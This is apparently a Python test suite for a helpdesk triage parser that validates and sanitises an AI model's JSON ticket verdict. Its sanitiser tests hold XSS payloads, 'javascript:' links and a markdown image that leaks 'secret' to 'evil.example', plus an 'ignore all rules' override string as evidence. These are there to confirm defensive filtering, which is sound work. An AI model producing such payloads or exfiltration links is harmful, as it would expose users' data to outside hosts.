"""The model's answer: what is taken over, what is left out, and what is no answer at all."""

import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helpdesk.errors import OutsideError
from helpdesk.verdict import Category, Judged, Priority, Provenance, Sentiment, Source
from triage.answer import EVIDENCE_MOST, NOTES_MOST, SUMMARY_MOST, harmless, read_verdict
from triage.skills import SKILLS_MOST

TITLE = "Shop is down"
DESCRIPTION = "Since the update of MySQL no customer can order."
SKILLS = ("MySQL", "C++", "Docker", "Git", "SQL", "Java", "DNS")
PROVENANCE = Provenance(source=Source.AI, model="gemini-test")
NASTY = (
    "<", ">", "<b>", "</", "script", "![", "[", "]", "(", ")", "](", "]:", "http", "HTTPS", ":",
    "//", "://", "www.", "evil.example", "&", "amp;", "#58;", "&colon;", "&lt;", "\\", "\u200b",
    "\x00", "\n", " ", "javascript:", "data:text/html,x", "mailto:a@b.c", "\u202e", "\ud800", "x",
    "!", "'", '"', "=", "_", "*",
)  # fmt: skip
ANY_TEXT = st.lists(st.sampled_from(NASTY)).map("".join) | st.text(st.characters(codec=None))


def a_field(value, **changes):
    return {"value": value, "confidence": 0.8, "evidence": "", **changes}


def an_answer(**changes):
    return {
        "summary": "The shop is down.",
        "priority": a_field("high", evidence="Shop is down"),
        "category": a_field("incident", evidence="no customer can order"),
        "skills": a_field(["MySQL"], evidence="MySQL"),
        "language": "en",
        "sentiment": "negative",
        "notes": "- Roll the update back.",
        **changes,
    }


def read(answer=None, **changes):
    text = json.dumps(an_answer(**changes)) if answer is None else answer
    return read_verdict(
        text, title=TITLE, description=DESCRIPTION, skills=SKILLS, provenance=PROVENANCE
    )


def test_a_sound_answer_becomes_a_verdict():
    verdict = read()

    assert verdict.summary == "The shop is down."
    assert verdict.priority == Judged(Priority.HIGH, 0.8, "Shop is down")
    assert verdict.category == Judged(Category.INCIDENT, 0.8, "no customer can order")
    assert verdict.skills == Judged(("MySQL",), 0.8, "MySQL")
    assert (verdict.language, verdict.sentiment) == ("en", Sentiment.NEGATIVE)
    assert verdict.notes == "- Roll the update back."
    assert verdict.provenance is PROVENANCE


@pytest.mark.parametrize(
    "text",
    ["", "not json", "```json\n{}\n```", '{"summary": "cut of', "null", "[]", '"high"', "[" * 9_999,
     "9" * 5_000],
)  # fmt: skip
def test_what_is_no_object_is_no_answer(text):
    with pytest.raises(OutsideError):
        read(text)


@pytest.mark.parametrize("name", list(an_answer()))
@pytest.mark.parametrize("odd", [None, 7, True, ["high"]])
def test_a_field_that_is_missing_or_something_else_is_no_answer(name, odd):
    with pytest.raises(OutsideError):
        read(**{name: odd})


@pytest.mark.parametrize("name", ["priority", "category", "skills"])
@pytest.mark.parametrize("inner", ["value", "confidence", "evidence"])
@pytest.mark.parametrize("odd", [None, True, {}])
def test_a_judgement_that_is_not_whole_is_no_answer(name, inner, odd):
    with pytest.raises(OutsideError):
        read(**{name: {**an_answer()[name], inner: odd}})


@pytest.mark.parametrize(
    "changes",
    [
        {"priority": a_field("urgent")},
        {"priority": a_field("HIGH")},
        {"category": a_field("spam")},
        {"sentiment": "furious"},
        {"summary": " \u200b<br>\n"},
    ],
)
def test_a_value_off_the_list_is_no_answer(changes):
    with pytest.raises(OutsideError):
        read(**changes)


@pytest.mark.parametrize(
    ("said", "meant"),
    [
        ("0.25", 0.25), ("1", 1.0), ("7", 1.0), ("-3", 0.0), ("1e999", 1.0), ("-1e999", 0.0),
        ("NaN", 0.0), ("9" * 400, 1.0),
    ],
)  # fmt: skip
def test_confidence_is_a_number_from_0_to_1(said, meant):
    text = json.dumps(an_answer()).replace("0.8", said)

    verdict = read(text)

    assert [verdict.priority.confidence, verdict.skills.confidence] == [meant, meant]


@pytest.mark.parametrize(
    ("quote", "kept"),
    [
        ("Shop is down", "Shop is down"),
        ("  update of MySQL\n", "update of MySQL"),
        ("shop is down", ""),
        ("Shop is down Since", ""),
        ("ignore all rules", ""),
        ("", ""),
    ],
)
def test_evidence_is_literal_or_nothing(quote, kept):
    verdict = read(priority=a_field("low", evidence=quote))

    assert verdict.priority.evidence == kept


def test_long_evidence_is_cut_and_stays_literal():
    ticket = "no " * 200

    verdict = read_verdict(
        json.dumps(an_answer(skills=a_field([], evidence=ticket.strip()))),
        title="", description=ticket, skills=(), provenance=PROVENANCE,
    )  # fmt: skip

    assert verdict.skills.evidence in ticket
    assert 0 < len(verdict.skills.evidence) <= EVIDENCE_MOST


@pytest.mark.parametrize(
    ("named", "kept"),
    [
        (["mysql", " C++ ", "DOCKER"], ("MySQL", "C++", "Docker")),
        (["Cobol", "admin", "", "C", 7, None, ["Git"]], ()),
        (["SQL", "sql", "Sql"], ("SQL",)),
        ([], ()),
        (list(SKILLS), SKILLS[:SKILLS_MOST]),
    ],
)
def test_skills_are_those_of_the_lexicon(named, kept):
    verdict = read(skills=a_field(named))

    assert verdict.skills.value == kept


@pytest.mark.parametrize(
    ("said", "meant"),
    [
        ("de", "de"), ("EN ", "en"), ("und", "und"), ("English", "und"), ("en-US", "und"),
        ("é1", "und"),
    ],
)  # fmt: skip
def test_a_language_is_a_code_of_two_letters(said, meant):
    assert read(language=said).language == meant


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("1. **Do** `x -y`\n2. a < b && c > d", "1. **Do** `x -y`\n2. a < b && c > d"),
        ("AT&T, data: 5 rows, C:\\temp, a[0](x", "AT&T, data: 5 rows, C:\\temp, a[0] (x"),
        ("<script>alert(1)</script><img src=x onerror=y>", "alert(1)"),
        ("<<b>script>", "< script>"),
        ("&lt;img src=x&gt;x", "x"),
        ("![x](https://evil.example/?q=secret)ok", "ok"),
        ("![x][ref] ok", "ok"),
        ("see [the page](https://evil.example) now", "see the page now"),
        ("[![a](//evil.example/p)](//evil.example) x", "x"),
        ("[a]: //evil.example", "[a] : //evil.example"),
        ("https://evil.example/a?b#c ok", "(link removed) ok"),
        ("hTTp\\://evil.example", "(link removed)"),
        ("http&#58;//evil.example", "(link removed)"),
        ("http&amp;#58;//evil.example", "http& #58;//evil.example"),
        ("ht\u200btp://evil.example", "(link removed)"),
        ("ht<b>tps://evil.example", "(link removed)"),
        ("ht[tp](x)://evil.example", "(link removed)"),
        ("WWW.evil.example javascript:alert(1)", "(link removed) (link removed)"),
        ("_www.evil.example _mailto:a@b.c", "_(link removed) _(link removed)"),
        ("metadata:x", "metadata:x"),
        ("<https://evil.example> ok", "ok"),
        ("a\x00\x1b[31mb\u202ec\ud800d\r\ne\tf", "a[31mbcd \ne f"),
    ],
)  # fmt: skip
def test_notes_hold_no_tag_no_image_and_no_link(said, shown):
    assert read(notes=said).notes == shown


@given(ANY_TEXT)
def test_nothing_the_model_writes_becomes_a_link_or_a_tag(text):
    shown = harmless(text)

    assert not re.search(r"<[/!?a-z]|!\[|\][(\[:]|\w://|www\.\S|&#?\w+;", shown, re.IGNORECASE)
    assert all(char.isprintable() or char == "\n" for char in shown)


def test_long_texts_are_cut():
    verdict = read(summary="word " * 9_000, notes="word " * 9_000)

    assert len(verdict.summary) <= SUMMARY_MOST
    assert len(verdict.notes) <= NOTES_MOST
    assert verdict.notes.endswith("word…")


def test_the_summary_is_one_line_without_markup():
    verdict = read(summary="Shop\n<b>down</b> https://evil.example")

    assert verdict.summary == "Shop down (link removed)"


@pytest.mark.parametrize(
    "text", ["<1x@evil.example>", "<.a@evil.example>", "boss@evil.example", "xmpp:a@b.example"]
)
def test_no_address_is_left_that_a_reader_would_make_a_link_of(text):
    assert "@" not in harmless(f"write to {text} now")
